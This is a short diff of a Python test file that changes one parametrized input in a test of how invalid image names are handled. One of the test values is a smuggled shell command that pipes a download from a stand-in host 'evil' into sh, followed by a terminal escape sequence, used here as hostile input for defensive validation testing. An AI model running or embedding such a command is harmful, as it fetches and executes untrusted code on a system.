@@ -65,7 +65,7 @@ def test_a_run_is_refused_before_it_begins(version: Version, ada: User) -> None:
     assert "the first needs none of them" in refused.value.hint
 
 
-@pytest.mark.parametrize("name", ["x;curl evil|sh #\x1b[2J", "", "\x00", "MyImage", "--help"])
+@pytest.mark.parametrize("name", ["x;curl evil|sh #\x1b[2J", "", "\x7f", "MyImage", "--help"])
 def test_what_can_be_no_image_is_neither_named_nor_in_the_way(version: Version, ada: User, name: str) -> None:
     version.describe["splits"]["eval"]["images"] = {name: 0}
     version.save(update_fields=["describe"])
